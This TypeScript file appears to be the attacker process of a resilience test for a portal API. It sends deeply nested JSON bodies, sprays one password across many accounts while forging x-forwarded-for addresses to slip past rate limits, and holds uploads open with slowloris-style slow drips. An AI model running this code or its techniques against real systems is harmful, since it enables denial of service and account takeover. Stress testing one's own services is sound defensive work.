import { once } from "node:events";
import { Agent, request } from "node:http";
import { setTimeout as sleep } from "node:timers/promises";

/** What the attackers are told: the portal's address, the slow senders' tokens, and who signs in with which password. */
export type Orders = { address: string; tokens: string[]; people: string[]; password: string };
/** What they did since they were told to begin, by the status that came of it; 0 is a line that was closed. */
export type Deeds = { waves: number; deepBodies: Record<number, number>; signIns: Record<number, number>; senders: Record<number, number> };

const deep = Buffer.from(`${"[".repeat(6_000)}${"0,".repeat(500_000)}0${"]".repeat(6_000)}`);
const attacks = { deepBodies: 4, sendersPerToken: 4, signIns: 100 };

// A process of its own, so that what attacking costs is not counted as the portal's delay: started by attack.ts.
const orders = JSON.parse(process.argv[2] ?? "{}") as Orders;
const agent = new Agent({ keepAlive: true, maxSockets: 1_000 });
const deeds: Deeds = { waves: 0, deepBodies: {}, signIns: {}, senders: {} };
let running = false;

/** Sends a request and answers its status; 0 where none comes. */
async function send(path: string, method: string, headers: Record<string, string | number>, body?: Buffer): Promise<number> {
  const outgoing = request(new URL(`/api/${path}`, orders.address), { method, agent, headers });
  outgoing.end(body);
  try {
    const [response] = (await once(outgoing, "response")) as [{ statusCode: number; resume(): void }];
    response.resume();
    return response.statusCode;
  } catch {
    return 0;
  }
}

async function sendDeepBody(): Promise<void> {
  const status = await send("password/link", "POST", { "content-type": "application/json", "content-length": deep.length }, deep);
  deeds.deepBodies[status] = (deeds.deepBodies[status] ?? 0) + 1;
}

async function signIn(turn: number): Promise<void> {
  const basic = Buffer.from(`${orders.people[turn % orders.people.length]}:${orders.password}`).toString("base64");
  // Each from an address of its own, as if a proxy said so: one address alone would soon be refused.
  const from = `10.${(turn >> 16) % 250}.${(turn >> 8) % 250}.${turn % 250}`;
  const status = await send("users/token", "GET", { authorization: `Basic ${basic}`, "x-forwarded-for": from });
  deeds.signIns[status] = (deeds.signIns[status] ?? 0) + 1;
}

/** All at once, and again as soon as all are answered. */
async function sendWaves(): Promise<void> {
  while (running) {
    const first = deeds.waves * attacks.signIns;
    deeds.waves += 1;
    await Promise.all([
      ...Array.from({ length: attacks.deepBodies }, sendDeepBody),
      ...Array.from({ length: attacks.signIns }, (_, at) => signIn(first + at)),
    ]);
  }
}

async function sendSlowly(token: string, kind: string): Promise<void> {
  const boundary = "a-boundary";
  const field = (name: string, value: string) => `--${boundary}\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
  const head = `${field("kind", kind)}${field("dryRun", "true")}--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="a.csv"\r\n\r\n1234`;
  while (running) {
    const outgoing = request(new URL("/api/tasks/import", orders.address), {
      method: "POST",
      agent: false,
      headers: {
        authorization: `Bearer ${token}`,
        "content-type": `multipart/form-data; boundary=${boundary}`,
        "content-length": 10_000_000,
      },
    });
    outgoing.write(head);
    const drip = setInterval(() => outgoing.write("1234"), 5_000);
    const status = await new Promise<number>((resolve) => {
      outgoing.on("response", (response) => resolve(response.statusCode ?? 0));
      outgoing.on("error", () => resolve(0));
    });
    clearInterval(drip);
    deeds.senders[status] = (deeds.senders[status] ?? 0) + 1;
    outgoing.destroy();
    if (status !== 400) await sleep(1_000);
  }
}

process.on("message", (word) => {
  if (word === "begin" && !running) {
    running = true;
    void sendWaves();
    const kinds = ["users-import", "legal-entities-import", "glossary-import", "quality-import"];
    for (const token of orders.tokens) for (const kind of kinds.slice(0, attacks.sendersPerToken)) void sendSlowly(token, kind);
  }
  if (word === "end") {
    running = false;
    process.send?.(deeds);
  }
});
process.send?.("ready");
